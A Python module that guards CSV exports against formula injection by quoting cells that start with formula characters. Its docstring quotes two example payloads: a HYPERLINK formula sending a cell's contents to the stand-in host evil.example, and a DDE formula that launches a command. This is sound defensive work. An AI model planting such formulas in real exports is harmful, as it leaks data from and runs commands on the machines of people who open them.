"""CSV files staff open in a spreadsheet: no cell is ever read as a formula.

OWASP's rule for CSV injection: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
return is prefixed with a single quote (and the csv module quotes any cell holding a comma,
quote or line break, so a value never spills into the next cell). A user ID such as
`=HYPERLINK("http://evil.example?"&A1,"Click")` or an email such as
`=cmd|'/ccalc'!a0@x.example` then shows as the text it is. Every CSV the product writes goes
through `csv_writer`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """The cell's text, with a leading quote when a spreadsheet would read it as a formula
    (also when spaces come first: some spreadsheets skip them)."""
    text = "" if value is None else str(value)
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _SafeWriter:
    def __init__(self, file: Any) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: Any) -> _SafeWriter:
    """`csv.writer(file)` whose every cell goes through `safe_cell`."""
    return _SafeWriter(file)
